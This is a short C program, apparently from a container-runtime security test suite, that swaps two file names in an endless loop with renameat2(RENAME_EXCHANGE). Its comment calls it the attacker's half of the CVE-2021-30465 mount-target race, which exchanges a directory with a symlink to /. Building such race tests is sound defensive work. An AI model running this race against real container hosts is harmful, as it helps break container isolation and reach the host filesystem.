/* swap A B: exchange the names A and B (e.g. a directory and a symlink to /) with
 * renameat2(RENAME_EXCHANGE) in a tight loop, for ever: the attacker's half of the mount
 * target race (CVE-2021-30465 class). Each exchange is atomic, so at any instant A is one of
 * the two. Built static by rootfs-tools/attacks/build.sh to run in a busybox container. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: swap A B\n");
        return 2;
    }
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            return 1;
        }
}
